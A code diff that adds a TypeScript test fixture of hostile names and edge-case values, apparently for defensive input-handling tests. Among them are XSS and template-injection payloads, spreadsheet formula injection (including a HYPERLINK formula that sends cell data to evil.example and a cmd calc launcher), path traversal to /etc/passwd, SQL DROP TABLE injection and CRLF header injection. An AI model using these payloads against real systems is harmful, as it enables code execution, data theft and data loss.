@@ -1,0 +1,67 @@
+// Values that have made other programs stumble: names that are code, marks that turn text around, numbers at the edges.
+
+/** Names that a person could type, paste or mean harm with. Each has to come back as the very text it is. */
+export const HOSTILE_NAMES = [
+  '<script>document.title="run"</script>',
+  '"><img src=x onerror=document.title="run">',
+  "javascript:document.title='run'",
+  '{{7*7}} $\u007B7*7} <%= 7*7 %>',
+  '\u202Egnirts desrever\u202C',
+  'עברית עם \u200Fסימנים',
+  '🍺👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿',
+  'Z\u0351\u036B\u0343a\u034C\u0366l\u034Bg\u036Eo',
+  '=cmd|"/c calc"!A1',
+  '=HYPERLINK("http://evil.example?"&A1,"x")',
+  '+1+1',
+  '-2+3',
+  '@SUM(1)',
+  'a;b,c:d\\e\\n"f"',
+  'BEGIN:VEVENT',
+  'X\u2028DTSTART:19700101\u2029Y',
+  '../../../../etc/passwd',
+  '..\\..\\windows\\system32',
+  'C:\\nul',
+  "'; DROP TABLE house; --",
+  '%00%0d%0aSet-Cookie:x=1',
+  '__proto__',
+  'constructor',
+  'toString',
+  'null',
+  'NaN',
+  '0',
+  'x'.repeat(200),
+  'é'.normalize('NFD').repeat(100),
+] as const;
+
+/** Ten kilobytes: longer than any name may be. */
+export const TEN_KILOBYTES = 'ABCDEFGH '.repeat(1138).slice(0, 10_240);
+
+/** Values of every kind that no field means. */
+export const HOSTILE_VALUES: readonly unknown[] = [
+  null,
+  true,
+  '',
+  ' ',
+  '\u0000',
+  '\r\nX-Header: 1',
+  '\uD800',
+  TEN_KILOBYTES,
+  ...HOSTILE_NAMES,
+  0,
+  -0,
+  -1,
+  0.1 + 0.2,
+  1e-320,
+  1.7e308,
+  Number.MAX_SAFE_INTEGER + 2,
+  '1e999',
+  '2027-02-30',
+  '9999-12-31',
+  '0000-01-01',
+  '-000001-01-01',
+  [],
+  {},
+  [[[[[[[[]]]]]]]],
+  { length: 1e9 },
+  { toString: 1, valueOf: null },
+];
